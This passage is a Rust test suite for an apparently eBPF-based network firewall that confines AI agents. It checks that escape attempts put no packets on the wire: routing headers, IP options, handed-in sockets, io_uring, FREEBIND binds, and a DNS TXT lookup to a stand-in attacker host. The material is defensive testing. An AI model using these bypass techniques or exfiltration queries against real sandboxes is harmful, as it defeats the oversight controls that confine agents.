//! The packet line, on the wire: a governed agent (the real node, `launch --user nobody`) in one
//! test namespace, joined by a veth pair to a peer namespace where every frame it sends is
//! captured. Each case asserts what left, not only the errno the agent saw. The agent and an
//! unenrolled helper are pinned to one CPU, so their packets reach the peer in the order they
//! were sent: a packet the helper sends after an attack is the sign that the attack's packets,
//! had they left, would already have been seen.

use std::{
    os::{fd::AsRawFd as _, unix::fs::PermissionsExt as _},
    path::Path,
    process::Command,
    time::Duration,
};

use agentwall_tests::{
    Probe, TestEnv, bin_path,
    node::{
        NodeProc, eventually, flows, launch_args, launch_as_nobody, lsm_line, run_ok, setup,
        wait_flow_where, write_cert,
    },
    pki::{Ca, CertSpec},
    wire::{AGENT_V4, AGENT_V6, BEYOND_V4, BEYOND_V6, Capture, Link, PEER_V4, PEER_V6, Packet},
};

const ID: &str = "spiffe://example.org/agent/wire";

const POLICY: &str = "\
kind: AgentPolicy
name: wire
identity: spiffe://example.org/agent/wire
# So that the tests see the hooks judge what is sent through io_uring.
io_uring: allow
egress:
  - to: [192.0.2.2/32, 2001:db8::2/128]
    ports: [9000]
    protocol: udp
  - to: [192.0.2.2/32, 2001:db8::2/128]
    ports: [9001]
    protocol: tcp
ingress:
  - from: [2001:db8::2/128]
    ports: [8088]
    protocol: tcp
  - from: [192.0.2.2/32]
    ports: [5353]
    protocol: udp
---
kind: AgentPolicy
name: wire-plain
identity: spiffe://example.org/agent/wire-plain
egress:
  - to: [192.0.2.2/32]
    ports: [9000]
    protocol: udp
";

/// An identity whose policy leaves io_uring refused (the default).
const PLAIN_ID: &str = "spiffe://example.org/agent/wire-plain";

const WITHIN: Duration = Duration::from_secs(10);

struct Fixture {
    /// Held for its guard: the cgroups and pins go with it.
    _env: TestEnv,
    dir: tempfile::TempDir,
    ca: Ca,
    node: Option<NodeProc>,
    link: Link,
    capture: Capture,
    helper: Probe,
}

/// Held around each `enroll`, and by the test whose chain of short-lived sharers would have
/// every enroll on the host refused while it runs (each tests's enroll compares every task
/// on the host).
fn enrolling() -> std::sync::MutexGuard<'static, ()> {
    static ENROLLING: std::sync::Mutex<()> = std::sync::Mutex::new(());
    ENROLLING.lock().unwrap_or_else(|e| e.into_inner())
}

fn fixture(name: &str) -> Fixture {
    let (env, dir, ca) = setup(name, POLICY);
    let node = NodeProc::start_with(&env, dir.path(), &["--aggregate-window-secs", "1"]);
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let link = Link::new(name);
    let capture = Capture::start(&link.peer, "veth-p");
    let helper_cg = env.cgroup("helper");
    let mut h = Command::new(bin_path("aw-probe"));
    h.args(["--cgroup", helper_cg.path().to_str().unwrap(), "--cpu", "0"]);
    link.agent.enter(&mut h);
    let helper = Probe::from_command(h);
    Fixture {
        _env: env,
        dir,
        ca,
        node: Some(node),
        link,
        capture,
        helper,
    }
}

impl Fixture {
    fn socket(&self) -> &Path {
        &self.node.as_ref().expect("node running").socket
    }

    /// The agent, as nobody, under a certificate made by `spec`.
    fn agent(&self, name: &str, spec: &CertSpec) -> Probe {
        let (cert, key) = write_cert(self.dir.path(), name, &self.ca.issue(spec));
        let mut c = launch_as_nobody(self.socket(), &cert, &key);
        c.args(["--cpu", "0"]);
        self.link.agent.enter(&mut c);
        Probe::from_command(c)
    }

    /// A unit (an unenrolled cgroup of the test's) with a probe in it, in the agent's
    /// namespace.
    fn unit(&self) -> (agentwall::cgroup::Cgroup, Probe) {
        let unit = self._env.cgroup("unit");
        let probe = self.probe_in(&unit);
        (unit, probe)
    }

    /// A probe in cgroup `cg`, in the agent's namespace.
    fn probe_in(&self, cg: &agentwall::cgroup::Cgroup) -> Probe {
        let mut c = Command::new(bin_path("aw-probe"));
        c.args(["--cgroup", cg.path().to_str().unwrap(), "--cpu", "0"]);
        self.link.agent.enter(&mut c);
        Probe::from_command(c)
    }

    /// `agentwall enroll` of `unit` under the test's identity, as a command to run.
    fn enroll_command(&self, unit: &agentwall::cgroup::Cgroup) -> Command {
        self.enroll_command_as(unit, ID)
    }

    /// `agentwall enroll` of `unit` under identity `id`, as a command to run.
    fn enroll_command_as(&self, unit: &agentwall::cgroup::Cgroup, id: &str) -> Command {
        let name = id.rsplit('/').next().unwrap_or("unit");
        let (cert, key) = write_cert(self.dir.path(), name, &self.ca.issue(&CertSpec::agent(id)));
        agentwall_tests::node::enroll_command(self.socket(), unit.path(), &cert, &key)
    }

    /// `agentwall enroll` of `unit` under the test's identity, which must succeed.
    fn enroll(&self, unit: &agentwall::cgroup::Cgroup) {
        let _one = enrolling();
        agentwall_tests::node::run_ok(&mut self.enroll_command(unit));
    }

    /// Has the unenrolled helper send one datagram to the peer, and returns every packet seen
    /// up to it.
    fn until_helper_marker(&mut self, port: u16) -> Vec<Packet> {
        assert_eq!(
            self.helper.cmd(&format!("sendto udp {PEER_V4} {port}")),
            "ok"
        );
        self.capture.until(WITHIN, |p| p.is_to(PEER_V4, port))
    }
}

/// What the node recorded of refused sockets, and its status: said when a receipt expected
/// to be refused was taken.
fn socket_records(socket: &Path) -> String {
    format!(
        "the node's socket records: {:?}; its status: {}",
        flows(socket, "socket-deny"),
        agentwall_tests::node::status_json(socket)
    )
}

fn deny_record(socket: &Path, dest: &str, reason: &str) -> serde_json::Value {
    wait_flow_where(socket, "deny", |r| {
        r["dest"] == dest && r["reason"] == reason
    })
}

#[test]
fn routing_headers_and_ip_options_never_reach_the_wire() {
    let mut fx = fixture("wire-rthdr");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));

    // Allowed traffic leaves as judged, in both families.
    assert_eq!(agent.cmd(&format!("sendto udp {PEER_V6} 9000")), "ok");
    assert_eq!(agent.cmd(&format!("sendto udp {PEER_V4} 9000")), "ok");
    fx.capture.until(WITHIN, |p| p.is_to(PEER_V4, 9000));

    // A type-4 routing header [allowed peer, then beyond]: the kernel takes it from an
    // unprivileged user and would address the packet to the address beyond.
    let attempts = [
        format!("rthdr udp {PEER_V6} 9000 {BEYOND_V6}"),
        format!("rthdr tcp {PEER_V6} 9001 {BEYOND_V6}"),
        format!("rthdr-cmsg srh {PEER_V6} 9000 {BEYOND_V6}"),
        format!("rthdr-cmsg type2 {PEER_V6} 9000 {BEYOND_V6}"),
        format!("ipopt lsrr {PEER_V4} 9000 {BEYOND_V4}"),
        format!("ipopt rr {PEER_V4} 9000 {BEYOND_V4}"),
        format!("ip6opt hop {PEER_V6} 9000"),
        format!("ip6opt dst {PEER_V6} 9000"),
    ];
    let answers: Vec<String> = attempts.iter().map(|a| agent.cmd(a)).collect();
    let seen = fx.until_helper_marker(9100);
    let table: Vec<(&String, &String)> = attempts.iter().zip(&answers).collect();
    // The kernel's own multicast housekeeping (MLD reports carry a hop-by-hop header) is not
    // the agent's.
    for p in seen.iter().filter(|p| !p.dst.is_multicast()) {
        assert!(
            !p.ip_options && (p.next == 6 || p.next == 17),
            "a packet with options or extension headers left: {p:?}\n{table:#?}"
        );
        assert!(
            p.dst == PEER_V4.parse::<std::net::IpAddr>().unwrap()
                || p.dst == PEER_V6.parse::<std::net::IpAddr>().unwrap(),
            "a packet left for {}: {p:?}\n{table:#?}",
            p.dst
        );
    }
    // The setsockopt route: the kernel accepts the header, the packet line refuses the packet.
    assert_eq!(answers[0], "err EPERM", "{table:#?}");
    // As ancillary data the kernel refuses routing headers itself (a kernel with Mobile IPv6
    // may take type 2: then the packet line refuses the packet).
    for i in [2, 3] {
        assert!(
            answers[i] == "err EINVAL" || answers[i] == "err EPERM",
            "{table:#?}"
        );
    }
    // Record route is an option an unprivileged user may set: the packet is refused.
    assert_eq!(answers[5], "err EPERM", "{table:#?}");
    // Source routing and hop-by-hop/destination options are the kernel's to refuse an
    // unprivileged user.
    assert_eq!(answers[4], "setsockopt EPERM", "{table:#?}");
    assert_eq!(answers[6], "setsockopt EPERM", "{table:#?}");
    assert_eq!(answers[7], "setsockopt EPERM", "{table:#?}");

    // Each refusal is a record with its own reason.
    let r = deny_record(
        fx.socket(),
        BEYOND_V6,
        "IP options, IPv6 extension headers or an IPv4-mapped address on IPv6",
    );
    assert_eq!(r["identity"], ID, "{r}");
    assert_eq!(r["port"], 9000, "{r}");
    assert_eq!(r["protocol"], "udp", "{r}");

    // And the agent still reaches what it may.
    assert_eq!(agent.cmd(&format!("sendto udp {PEER_V6} 9000")), "ok");
    fx.capture.until(WITHIN, |p| p.is_to(PEER_V6, 9000));
}

/// An established connected-UDP flow (a QUIC connection, say) stops at the packet line the
/// moment its identity is revoked.
/// The ways out `attacks.rs` tries that would send a packet, on the wire: each is refused,
/// and nothing but the helper's marker reaches the peer. The refused destinations are routed
/// through the peer, so a wrong verdict would show here.
#[test]
fn the_attack_suites_ways_out_put_nothing_on_the_wire() {
    let mut fx = fixture("wire-attacks");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    // An allowed flow leaves, as a check that the capture sees the agent.
    assert_eq!(agent.cmd(&format!("sendto udp {PEER_V4} 9000")), "ok");
    fx.capture.until(WITHIN, |p| p.is_to(PEER_V4, 9000));

    // A socket an unenrolled process made, passed in over SCM_RIGHTS, then connected by the
    // agent: judged as the agent's.
    let shared = fx.dir.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let pass = shared.join("pass.sock");
    let pass = pass.to_str().unwrap();
    assert_eq!(agent.cmd(&format!("recv-socket {pass}")), "ok");
    assert_eq!(fx.helper.cmd(&format!("send-socket {pass}")), "ok");

    let attempts = [
        // IPv4-mapped IPv6 is judged as IPv4; IPv4-compatible IPv6 is an address no rule names.
        format!("connect tcp ::ffff:{BEYOND_V4} 443"),
        format!("connect tcp ::{BEYOND_V4} 443"),
        format!("connect tcp {BEYOND_V6} 443"),
        // Other ways to send.
        format!("sendmmsg udp {BEYOND_V4} 5353"),
        format!("sendmmsg udp {PEER_V4} 9002"),
        format!("fastopen {BEYOND_V4} 443"),
        format!("uring-connect {BEYOND_V4} 443"),
        format!("uring-sendmsg {BEYOND_V4} 5354"),
        format!("connect-received {BEYOND_V4} 444"),
    ];
    let answers: Vec<String> = attempts.iter().map(|a| agent.cmd(a)).collect();
    let storm = agent.cmd(&format!("fork-storm 100 tcp {BEYOND_V4} 445"));
    // DNS to a resolver beyond the peer, for a name no rule allows: the node's proxy answers
    // REFUSED and forwards nothing.
    let dns: Vec<String> = ["udp", "tcp"]
        .iter()
        .map(|mode| {
            agent.cmd(&format!(
                "resolve 6c65616b.attacker.example {BEYOND_V4} {mode} TXT"
            ))
        })
        .collect();
    let seen = fx.until_helper_marker(9100);
    let table: Vec<(&String, &String)> = attempts.iter().zip(&answers).collect();
    for (a, answer) in &table {
        assert_eq!(answer.as_str(), "err EPERM", "{a}\n{table:#?}");
    }
    assert_eq!(storm, "eperm=100 other=0");
    assert_eq!(dns, ["rcode Refused", "rcode Refused"]);
    // Neighbour discovery and MLD are the kernel's multicast housekeeping, not the agent's.
    for p in seen.iter().filter(|p| !p.dst.is_multicast()) {
        assert!(
            p.is_to(PEER_V4, 9100),
            "a packet left for {}: {p:?}\n{table:#?}",
            p.dst
        );
    }
    // Each is a record.
    for port in [443, 444, 445, 5353, 5354] {
        wait_flow_where(fx.socket(), "deny", |r| {
            r["dest"] == BEYOND_V4 && r["port"] == port && r["reason"] == "no rule allows it"
        });
    }
    // And io_uring reaches what the rules allow (this policy allows io_uring).
    let allowed = agent.cmd(&format!("uring-connect {PEER_V4} 9001"));
    assert!(!allowed.contains("EPERM"), "{allowed}");
    fx.capture.until(WITHIN, |p| p.is_to(PEER_V4, 9001));
}

#[test]
fn revocation_stops_an_established_udp_flow_on_the_wire() {
    let mut fx = fixture("wire-revoke");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd(&format!("hold udp {PEER_V6} 9000")), "ok");
    assert_eq!(agent.cmd("send-held"), "ok");
    fx.capture.until(WITHIN, |p| p.is_to(PEER_V6, 9000));

    run_ok(
        Command::new(bin_path("agentwall"))
            .args(["revoke", ID, "--socket"])
            .arg(fx.socket()),
    );
    let answer = agent.cmd("send-held");
    assert!(answer.starts_with("err "), "{answer}");
    // Where the kernel runs BPF LSM programs, a session cut off uses none of its sockets:
    // its sends and reads are refused before the protocol sees them (what was queued before
    // the cut stays unread), each a record of the socket-use line.
    if lsm_line(fx.socket()).is_none() {
        assert_eq!(answer, "err EPERM");
        assert_eq!(agent.cmd("peek-held"), "err EPERM");
        let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
            r["reason"] == "identity revoked"
                && r["protocol"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("send or receive on a socket of family 10"))
        });
        assert_eq!(r["identity"], ID, "{r:#}");
    } else {
        assert_eq!(agent.cmd("peek-held"), "ok");
    }
    let seen = fx.until_helper_marker(9101);
    assert!(
        !seen.iter().any(|p| p.is_to(PEER_V6, 9000)),
        "the revoked flow kept sending: {seen:?}"
    );
}

/// The certificate deadline ends an established UDP flow in the kernel, with the node stopped.
#[test]
fn expiry_stops_an_established_udp_flow_with_the_node_down() {
    let mut fx = fixture("wire-expiry");
    let mut agent = fx.agent("agent", &CertSpec::agent_expiring(ID, 6));
    assert_eq!(agent.cmd(&format!("hold udp {PEER_V4} 9000")), "ok");
    assert_eq!(agent.cmd("send-held"), "ok");
    fx.capture.until(WITHIN, |p| p.is_to(PEER_V4, 9000));

    // Enforcement outlives the node: the kernel holds the deadline.
    assert_eq!(fx.node.take().expect("node").stop(), 0);
    eventually(
        "the deadline to end the flow",
        Duration::from_secs(30),
        || {
            let a = agent.cmd("send-held");
            if a == "err EPERM" { Ok(()) } else { Err(a) }
        },
    );
    // Everything sent before the deadline is behind this marker; nothing after it.
    fx.until_helper_marker(9102);
    for _ in 0..3 {
        assert_eq!(agent.cmd("send-held"), "err EPERM");
    }
    let seen = fx.until_helper_marker(9103);
    assert!(
        !seen.iter().any(|p| p.is_to(PEER_V4, 9000)),
        "the expired flow kept sending: {seen:?}"
    );
}

/// A governed listener is governed at the packet line too: once the identity is revoked, no
/// connection from outside completes (its SYN-ACK never leaves), node running or not.
#[test]
fn revocation_closes_a_governed_listener_to_new_connections() {
    let fx = fixture("wire-listen");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd(&format!("listen tcp {AGENT_V6} 8088")), "ok");
    let target: std::net::SocketAddr = format!("[{AGENT_V6}]:8088").parse().unwrap();
    let connect = || {
        fx.link.peer.run_in(|| {
            std::net::TcpStream::connect_timeout(&target, Duration::from_secs(3)).map(drop)
        })
    };
    connect().expect("a connection to the live agent's listener");
    run_ok(
        Command::new(bin_path("agentwall"))
            .args(["revoke", ID, "--socket"])
            .arg(fx.socket()),
    );
    let err = connect().expect_err("revoked: no SYN-ACK leaves");
    assert_eq!(err.kind(), std::io::ErrorKind::TimedOut, "{err}");
}

/// The hop-by-hop header IPv6 BIG TCP adds to large segments carries only their length: a
/// large allowed upload passes the packet line whole, with no packet refused on the way.
#[test]
fn ipv6_big_tcp_passes_the_packet_line() {
    let fx = fixture("wire-bigtcp");
    fx.link
        .agent
        .ip(&["link", "set", "veth-a", "gso_max_size", "185000"]);
    fx.link
        .peer
        .ip(&["link", "set", "veth-p", "gro_max_size", "185000"]);
    let listener = fx.link.peer.run_in(|| {
        std::net::TcpListener::bind(format!("[{PEER_V6}]:9001")).expect("listen on the peer")
    });
    let reader = std::thread::spawn(move || {
        use std::io::Read as _;
        let (mut c, _) = listener.accept().expect("accept");
        let mut n = 0usize;
        let mut buf = vec![0u8; 1 << 16];
        while let Ok(k) = c.read(&mut buf) {
            if k == 0 {
                break;
            }
            n += k;
        }
        n
    });
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd(&format!("send-bulk {PEER_V6} 9001 64")), "ok");
    drop(agent);
    assert_eq!(reader.join().unwrap(), 64 << 20);
    let refused: Vec<serde_json::Value> = flows(fx.socket(), "deny")
        .into_iter()
        .filter(|r| {
            r["reason"] == "IP options, IPv6 extension headers or an IPv4-mapped address on IPv6"
        })
        .collect();
    assert!(refused.is_empty(), "{refused:#?}");
}

/// Sockets a process made before its cgroup was bound (`enroll` of a running unit) are
/// governed from their first packet after it: a connection or connected socket to a peer the
/// rules do not allow sends nothing more, one to an allowed peer goes on, and a listener
/// takes only what ingress rules allow. The same holds for sockets older than the map layout
/// in force, which an upgrade's sweep cannot reach (no port yet, or in flight).
#[test]
fn sockets_made_before_enroll_are_governed_from_their_first_packet() {
    let mut fx = fixture("wire-enroll");
    let agent_v4 = agentwall_tests::wire::AGENT_V4;
    let (tcp_peer, _udp_allowed, _udp_other) = fx.link.peer.run_in(|| {
        (
            std::net::TcpListener::bind(format!("{PEER_V4}:9002")).expect("bind 9002"),
            std::net::UdpSocket::bind(format!("{PEER_V4}:9000")).expect("bind 9000"),
            std::net::UdpSocket::bind(format!("{PEER_V4}:9500")).expect("bind 9500"),
        )
    });
    let (unit, mut svc) = fx.unit();
    // Unenrolled: everything is open to it.
    assert_eq!(svc.cmd(&format!("hold tcp {PEER_V4} 9002")), "ok");
    let (_conn, _) = tcp_peer.accept().expect("the unit's connection");
    assert_eq!(svc.cmd(&format!("hold udp {PEER_V4} 9000")), "ok");
    assert_eq!(svc.cmd(&format!("hold udp {PEER_V4} 9500")), "ok");
    assert_eq!(svc.cmd("listen tcp :: 8090"), "ok");
    fx.until_helper_marker(9100);

    fx.enroll(&unit);

    // The connected socket to 9500 is refused; the one to 9000, which the rules allow, sends.
    assert_eq!(svc.cmd("send-held"), "err EPERM");
    assert_eq!(svc.cmd("send-held-tcp"), "ok");
    let refused = fx.link.peer.run_in(|| {
        std::net::TcpStream::connect_timeout(
            &format!("{agent_v4}:8090").parse().unwrap(),
            Duration::from_secs(2),
        )
        .map(drop)
    });
    let err = refused.expect_err("no ingress rule for 8090: no SYN-ACK");
    assert_eq!(err.kind(), std::io::ErrorKind::TimedOut, "{err}");
    let seen = fx.until_helper_marker(9101);
    let from_unit: Vec<&Packet> = seen
        .iter()
        .filter(|p| !p.dst.is_multicast() && !p.is_to(PEER_V4, 9101))
        .collect();
    assert!(
        from_unit.iter().any(|p| p.is_to(PEER_V4, 9000)),
        "the allowed connected socket's datagram: {from_unit:?}"
    );
    let leaked: Vec<&&Packet> = from_unit
        .iter()
        .filter(|p| !p.is_to(PEER_V4, 9000))
        .collect();
    assert!(leaked.is_empty(), "left after enroll: {leaked:?}");
    for port in [9500, 9002] {
        wait_flow_where(fx.socket(), "deny", |r| {
            r["dest"] == PEER_V4
                && r["port"] == port
                && r["identity"] == ID
                && r["reason"] == "packet sent somewhere its socket was not allowed"
        });
    }
    let r = wait_flow_where(fx.socket(), "deny", |r| {
        r["port"] == 8090 && r["direction"] == "inbound"
    });
    assert_eq!(r["reason"], "no ingress rule allows it", "{r:#}");
}

/// A unit's socket that had `IPV6_FREEBIND` set before `enroll` bound its cgroup (connected,
/// so enroll lists it, then disconnected, which unbinds it) binds no address the host does
/// not hold after: where the kernel runs BPF LSM programs, `socket_bind` refuses the bind
/// (EPERM, recorded), so nothing leaves from that address. The same holds for a flag a
/// helper's setsockopt landed on a handed socket after the receipt's reads.
#[test]
fn a_governed_socket_with_freebind_set_binds_no_address_the_host_does_not_hold() {
    let mut fx = fixture("wire-bind-freebind");
    let _peer = fx
        .link
        .peer
        .run_in(|| std::net::UdpSocket::bind(format!("[{PEER_V6}]:9000")).expect("bind [v6]:9000"));
    let (unit, mut svc) = fx.unit();
    // Ungoverned yet: the flag is the unit's to set.
    assert_eq!(svc.cmd("hold-fresh udp 6"), "ok");
    assert_eq!(svc.cmd("freebind-held"), "ok");
    assert_eq!(svc.cmd(&format!("connect-held {PEER_V6} 9000")), "ok");
    fx.enroll(&unit);
    assert_eq!(svc.cmd("disconnect-held"), "ok");
    let bound = svc.cmd("bind-held 2001:db8::99 0");
    if let Some(why) = lsm_line(fx.socket()) {
        // Without BPF LSM nothing sees a bind: the threat model says so.
        assert_eq!(bound, "ok", "{why}");
        return;
    }
    assert_eq!(bound, "err EPERM", "{}", socket_records(fx.socket()));
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["protocol"] == "bind of a socket of family 10 (inet6), with FREEBIND set"
    });
    assert_eq!(
        r["reason"], "socket option not allowed (non-local source address)",
        "{r:#}"
    );
    assert_eq!(r["identity"], ID, "{r:#}");
    // Connected again, it sends nothing while the flag is on (`socket_sendmsg`), and nothing
    // from the foreign address reaches the wire.
    assert_eq!(svc.cmd(&format!("connect-held {PEER_V6} 9000")), "ok");
    assert_eq!(svc.cmd("send-held"), "err EPERM");
    let seen = fx.until_helper_marker(9102);
    let foreign: Vec<&Packet> = seen
        .iter()
        .filter(|p| p.src.to_string() == "2001:db8::99")
        .collect();
    assert!(
        foreign.is_empty(),
        "sent from the foreign address: {foreign:?}"
    );
}

/// A socket made outside governance and handed to a governed agent over a unix socket keeps the
/// cgroup it was made in, where no binding would judge it. Where the kernel runs BPF LSM
/// programs, the agent's receipt of it is judged: taken only if the agent could have made it
/// itself (plain TCP or UDP, not listening, no unjudged queue, connected only to a peer its
/// rules allow, no other session's), and from then on governed as the agent's own. A refused
/// one never reaches the agent (EPERM to the receipt, recorded with the peer). Where the kernel
/// runs no BPF LSM programs, the node says the line is not enforced.
#[test]
fn a_socket_handed_to_a_governed_agent_is_governed_as_its_own() {
    let mut fx = fixture("wire-handed");
    let (tcp_peer, _udp_allowed, _udp_other, tcp_allowed) = fx.link.peer.run_in(|| {
        (
            std::net::TcpListener::bind(format!("{PEER_V4}:9002")).expect("bind 9002"),
            std::net::UdpSocket::bind(format!("{PEER_V4}:9000")).expect("bind 9000"),
            std::net::UdpSocket::bind(format!("{PEER_V4}:9500")).expect("bind 9500"),
            std::net::TcpListener::bind(format!("{PEER_V4}:9001")).expect("bind 9001"),
        )
    });
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd("fd-inbox aw-handed-agent"), "ok");
    // Made by a process bound to no identity, then handed over one at a time: a refused
    // descriptor ends the kernel's delivery of the ones after it.
    let mut hand = |fx: &mut Fixture, hold: &str| -> String {
        assert_eq!(fx.helper.cmd(&format!("hold {hold}")), "ok", "hold {hold}");
        assert_eq!(fx.helper.cmd("pass-held aw-handed-agent"), "ok");
        agent.cmd("take-passed")
    };
    let taken = hand(&mut fx, &format!("udp {PEER_V4} 9000"));
    let unenforced = lsm_line(fx.socket());
    if let Some(why) = unenforced {
        // Nothing judges a handed socket there: the threat model says so.
        assert_eq!(taken, "ok 1", "{why}");
        return;
    }
    assert_eq!(taken, "ok 1", "a connected UDP socket to an allowed peer");
    assert_eq!(
        hand(&mut fx, &format!("tcp {PEER_V4} 9001")),
        "ok 1",
        "a TCP connection to an allowed peer"
    );
    let (_allowed_conn, _) = tcp_allowed
        .accept()
        .expect("the helper's allowed connection");

    // Each refused, with its record; the ones with a peer name it.
    let mut refused = |fx: &mut Fixture, hold: String, reason: &str, ty: u8, port: Option<u16>| {
        let got = hand(fx, &hold);
        assert_eq!(
            got,
            "ok 0",
            "{hold} was taken; {}",
            socket_records(fx.socket())
        );
        let what = format!("socket of family 2 (inet) type {ty} received from another process");
        let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
            r["reason"] == reason && r["protocol"] == what && port.is_none_or(|p| r["port"] == p)
        });
        assert_eq!(r["identity"], ID, "{r}");
        if port.is_some() {
            assert_eq!(r["dest"], PEER_V4, "{r}");
        }
    };
    refused(
        &mut fx,
        format!("udp {PEER_V4} 9500"),
        "no rule allows it",
        2,
        Some(9500),
    );
    refused(
        &mut fx,
        format!("tcp {PEER_V4} 9002"),
        "no rule allows it",
        1,
        Some(9002),
    );
    let (_conn, _) = tcp_peer.accept().expect("the helper's refused connection");
    let handed = "handed a listener, an unconnected bound socket or one holding datagrams (its queue was never judged)";
    refused(&mut fx, "listener 0.0.0.0 8093".into(), handed, 1, None);
    refused(&mut fx, "bound-udp 0.0.0.0 8094".into(), handed, 2, None);
    // Multipath TCP: its subflows are sockets no hook of the agent's binding would see.
    refused(
        &mut fx,
        format!("mptcp {PEER_V4} 9001"),
        "socket type not allowed",
        1,
        None,
    );

    // A datagram socket of another protocol (UDP-Lite here; ICMP echo and L2TP alike), which
    // the agent may not make.
    assert_eq!(fx.helper.cmd("hold-fresh udplite 4"), "ok");
    assert_eq!(fx.helper.cmd("pass-held aw-handed-agent"), "ok");
    assert_eq!(
        agent.cmd("take-passed"),
        "ok 0",
        "a UDP-Lite socket was taken"
    );
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["protocol"]
            == "socket of family 2 (inet) type 2 received from another process, protocol 136 (not UDP)"
    });
    assert_eq!(r["reason"], "socket type not allowed", "{r:#}");
    assert_eq!(r["identity"], ID, "{r:#}");
    // A socket whose maker opened its ICMP error queue, which a governed task's own sockets
    // keep shut: soft ICMP errors from senders no ingress rule judged would come back as
    // errors of its sends and reads. IPv4's flag sits in the socket; IPv6's, before Linux
    // 6.6, in the `ipv6_pinfo` the socket points to.
    for (peer, family, option) in [(PEER_V4, 2, "IP_RECVERR"), (PEER_V6, 10, "IPV6_RECVERR")] {
        assert_eq!(
            fx.helper.cmd(&format!("hold udp-recverr {peer} 9000")),
            "ok"
        );
        assert_eq!(fx.helper.cmd("pass-held aw-handed-agent"), "ok");
        assert_eq!(agent.cmd("take-passed"), "ok 0", "{option} on: taken");
        let what = format!(
            "socket of family {family} ({}) type 2 received from another process, with {option} set",
            if family == 2 { "inet" } else { "inet6" }
        );
        let r = wait_flow_where(fx.socket(), "socket-deny", |r| r["protocol"] == what);
        assert_eq!(
            r["reason"], "socket error queue closed (ICMP errors carry unjudged bytes)",
            "{r:#}"
        );
        assert_eq!(r["identity"], ID, "{r:#}");
    }
    // A socket made in a cgroup outside the node's attach point (this test's own, where a
    // probe started without `--cgroup` stays): none of the node's programs would run for it,
    // wherever it connects or sends, so it is refused however harmless it looks (connected
    // to an allowed peer).
    let mut c = Command::new(bin_path("aw-probe"));
    c.args(["--cpu", "0"]);
    fx.link.agent.enter(&mut c);
    let mut outsider = Probe::from_command(c);
    assert_eq!(outsider.cmd(&format!("hold udp {PEER_V4} 9000")), "ok");
    assert_eq!(outsider.cmd("pass-held aw-handed-agent"), "ok");
    assert_eq!(
        agent.cmd("take-passed"),
        "ok 0",
        "a socket made outside taken"
    );
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["reason"]
            == "socket made in a cgroup outside the node's attach point (none of its programs would judge it)"
    });
    assert_eq!(
        r["protocol"], "socket of family 2 (inet) type 2 received from another process",
        "{r:#}"
    );
    assert_eq!(r["identity"], ID, "{r:#}");
    drop(outsider);
    // The taken ones send as the agent's, to their allowed peers; nothing else left. The
    // helper's own packets so far (its handshakes, the refused sockets' closes) end at a
    // marker first.
    fx.until_helper_marker(9100);
    assert_eq!(agent.cmd("send-held"), "ok");
    assert_eq!(agent.cmd("send-held-tcp"), "ok");
    let seen = fx.until_helper_marker(9101);
    let from_agent: Vec<&Packet> = seen
        .iter()
        .filter(|p| !p.dst.is_multicast() && !p.is_to(PEER_V4, 9101))
        .collect();
    assert!(
        from_agent.iter().any(|p| p.is_to(PEER_V4, 9000)),
        "the allowed handed socket's datagram: {from_agent:?}"
    );
    let leaked: Vec<&&Packet> = from_agent
        .iter()
        .filter(|p| !p.is_to(PEER_V4, 9000) && !p.is_to(PEER_V4, 9001))
        .collect();
    assert!(leaked.is_empty(), "left through handed sockets: {leaked:?}");

    // A connection accepted on a listener bound to one of the host's addresses keeps that
    // address as chosen by bind(): taken, its handshake completed, as an ingress rule allows.
    assert_eq!(
        fx.helper.cmd(&format!("hold listener {AGENT_V6} 8088")),
        "ok"
    );
    let _client = fx.link.peer.run_in(|| {
        std::net::TcpStream::connect(format!("[{AGENT_V6}]:8088")).expect("connect to the helper")
    });
    assert_eq!(fx.helper.cmd("accept-held"), "ok");
    assert_eq!(fx.helper.cmd("pass-held aw-handed-agent"), "ok");
    assert_eq!(agent.cmd("take-passed"), "ok 1", "an accepted connection");
    // The agent's own socket bound to a local address, passed between its processes (alone:
    // the sockets it took so far are closed first).
    assert_eq!(agent.cmd("drop-held"), "ok");
    assert_eq!(agent.cmd(&format!("hold bound-udp {AGENT_V4} 7402")), "ok");
    assert_eq!(agent.cmd("pass-held aw-handed-agent"), "ok");
    assert_eq!(
        agent.cmd("take-passed"),
        "ok 1",
        "the agent's own bound socket"
    );

    // Another session's socket (same identity, its own binding): refused at the receipt.
    let mut other = fx.agent("other", &CertSpec::agent(ID));
    let mut third = fx.agent("third", &CertSpec::agent(ID));
    assert_eq!(third.cmd("fd-inbox aw-handed-third"), "ok");
    assert_eq!(other.cmd(&format!("hold udp {PEER_V4} 9000")), "ok");
    assert_eq!(other.cmd("pass-held aw-handed-third"), "ok");
    assert_eq!(third.cmd("take-passed"), "ok 0");
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["reason"] == "socket another identity's session governs"
    });
    assert_eq!(r["identity"], ID, "{r}");
    assert_eq!(
        r["protocol"], "socket of family 2 (inet) type 2 received from another process",
        "{r}"
    );
}

/// A socket a process bound to no identity made with IPV6_FREEBIND (or IP_FREEBIND), which a
/// governed agent is refused, bound to an address the host does not hold and connected to a
/// peer the agent may reach: handed in, it would send from that address, and the allowed
/// peer's answers would go to whoever holds it. Refused at the receipt with a record naming
/// the flag, as is a fresh socket with the flag set, which the agent would bind itself; the
/// same socket without the flag is taken.
#[test]
fn a_handed_socket_that_binds_addresses_the_host_does_not_hold_is_refused() {
    let mut fx = fixture("wire-handed-freebind");
    let _peers = fx.link.peer.run_in(|| {
        (
